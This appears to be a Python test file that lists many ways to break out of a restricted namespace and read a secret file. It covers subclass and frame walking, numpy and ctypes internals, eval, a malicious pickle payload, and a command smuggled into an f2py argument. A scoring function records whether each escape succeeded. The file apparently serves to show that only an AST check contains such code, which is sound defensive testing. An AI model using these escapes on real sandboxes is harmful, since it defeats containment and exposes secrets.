# ruff: noqa
"""Ways out of a restricted namespace. Most of them do get at Python's full powers, which is why the namespace is no
containment: each then tries to read the secret, and is true if it did. The AST check, which is off here, stops all.
``TABLE``, the list of these functions, is put behind.
"""

import numpy as np


def read_by(os):
    return b"SECRET" in os.read(os.open(SECRET, 0), 100)


def walk_subclasses():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return read_by(cls.__init__.__globals__["sys"].modules["os"])


def walk_file_loader():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "FileLoader":
            return b"SECRET" in cls("x", SECRET).get_data(SECRET)


def walk_function_globals():
    return read_by(np.load.__globals__["os"])


def walk_builtins_of_numpy():
    return "SECRET" in np.mean.__wrapped__.__globals__["__builtins__"]["open"](SECRET).read()


def walk_numpy_modules():
    return read_by(np.lib._datasource.os)


def walk_method_self():
    return "SECRET" in len.__self__.open(SECRET).read()


def walk_frame_of_generator():
    frame = (lambda: (yield))().gi_frame
    generator = (x for x in [1])
    frame = generator.gi_frame
    while frame.f_back:
        frame = frame.f_back
    return read_by(frame.f_globals["os"])


def walk_frames_to_the_worker():
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while "os" not in frame.f_globals:
        frame = frame.f_back
    return read_by(frame.f_globals["os"])


def walk_worker_object():
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while "self" not in frame.f_locals:
        frame = frame.f_back
    return read_by(frame.f_globals["sys"].modules["posix"])


def import_os():
    import os

    return read_by(os)


def import_spelled():
    return read_by(__import__("o" + "s"))


def import_through_numpy():
    import numpy.os as os

    return read_by(os)


def import_hidden_module():
    import numpy.lib._npyio_impl as npyio

    return read_by(npyio.os)


def import_f2py():
    import numpy.f2py as f2py

    return f2py.compile("x", extra_args="; touch /tmp/x")


def import_sys_modules():
    return read_by(np.sys.modules["os"])


def import_ctypeslib():
    return np.ctypeslib.ctypes.CDLL(None).system(b"true") == 0


def build_a_type():
    cls = ().__class__.__class__("X", (), {"__del__": lambda self: None})
    return read_by(cls.mro()[1].__subclasses__()[0].__init__.__globals__["os"])


def replace_code():
    def f():
        return None

    f.__code__ = f.__code__.replace(co_names=("os",), co_consts=(None, "os"))
    return read_by(f())


def evaluate_text():
    return len.__self__.eval("__import__('os').open(SECRET, 0)", {"SECRET": SECRET})


def format_string():
    return "SECRET" in "{0.__class__.__base__.__subclasses__}{1.__globals__[os].environ}".format(1, np.load)


def format_map_string():
    return "SECRET" in "{x.__globals__[os].environ}".format_map({"x": np.load})


def pickle_in_numpy():
    return np.load.__globals__["pickle"].loads(b"cos\nsystem\n(S'true'\ntR.") == 0


def vectorized_open():
    return "SECRET" in str(np.vectorize(np.fromfile)(SECRET))


def genfromtxt():
    return "SECRET" in str(np.genfromtxt(SECRET, dtype="U20"))


def ctypes_of_an_array():
    libc = np.zeros(1).ctypes._ctypes.CDLL(None)
    return libc.open(SECRET.encode(), 0) >= 0


def object_array():
    thing = np.array([np.load], dtype=object)[0]
    return read_by(thing.__globals__["os"])


def getattr_by_ufunc():
    get = np.load.__globals__["__builtins__"]["getattr"]
    return read_by(get(np.load, "__glo" + "bals__")["os"])


def poison_the_importer():
    modules = np.sys.modules
    modules["json"].loads = lambda text: None
    np.sys.meta_path.insert(0, None)
    return read_by(modules["os"])


def reward(which):
    try:
        succeeded = bool(TABLE[int(which[0])]())
    except Exception:
        succeeded = False
    return {"succeeded": np.full(len(which), succeeded)}
